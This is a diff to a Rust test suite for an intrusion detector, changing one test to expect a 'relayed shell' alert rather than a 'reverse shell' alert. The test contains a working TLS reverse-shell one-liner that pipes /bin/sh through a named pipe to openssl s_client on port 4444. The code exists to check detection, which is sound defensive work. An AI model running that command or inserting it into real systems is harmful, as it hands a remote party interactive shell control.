@@ -4,10 +4,15 @@ use detector_tests::needs_root;
 use detector_tests::server::Server;
 use detector_tests::wait::{LIMIT, wait_for};
 
-use super::{Alerts, Stage};
+use super::{Alerts, Run, Stage};
 
 /// Sees to it that the shell obeys, then has it end.
-fn is_held(stage: &Stage, mut hand: Server, script: &str) -> Alerts {
+fn is_held(stage: &Stage, hand: Server, script: &str) -> Alerts {
+    is_held_until(stage, hand, script, |_| ())
+}
+
+/// The same, and does something while the shell is held.
+fn is_held_until(stage: &Stage, mut hand: Server, script: &str, meanwhile: impl FnOnce(&Run)) -> Alerts {
     let run = stage.start(script);
     let obeyed = wait_for("the shell's answer", LIMIT, || {
         // Said again: what is sent before a connection stands is lost on some listeners.
@@ -17,6 +22,7 @@ fn is_held(stage: &Stage, mut hand: Server, script: &str) -> Alerts {
     obeyed.unwrap_or_else(|error| panic!("{script}: {error:#}: {}\n{}", hand.said(), run.log()));
     hand.say("no-such-program 2>&1").unwrap();
     hand.until_says("not found").unwrap_or_else(|error| panic!("{script}: {error:#}"));
+    meanwhile(&run);
     hand.say("exit 0").unwrap();
     // Some wait for the other side to hang up.
     drop(hand);
@@ -80,12 +86,12 @@ fn a_shell_behind_tls_is_told() {
     stage.certificate();
     let words = ["s_server", "-quiet", "-accept", "4444", "-cert", "cert.pem", "-key", "key.pem"];
     let hand = stage.peer_at(4444, "openssl", &words);
-    let alerts = is_held(
-        &stage,
-        hand,
-        "mkfifo f; /bin/sh -i < f 2>&1 | openssl s_client -quiet -connect $PEER:4444 > f 2> /dev/null || true",
-    );
-    alerts.of("network/reverse_shell.yml", "high");
+    let script = "mkfifo f; /bin/sh -i < f 2>&1 | openssl s_client -quiet -connect $PEER:4444 > f 2> /dev/null || true";
+    // A pipeline counts once it has stood for two seconds.
+    let alerts = is_held_until(&stage, hand, script, |run| {
+        run.alert("network/relayed_shell.yml");
+    });
+    alerts.of("network/relayed_shell.yml", "high");
 }
 
 #[test]
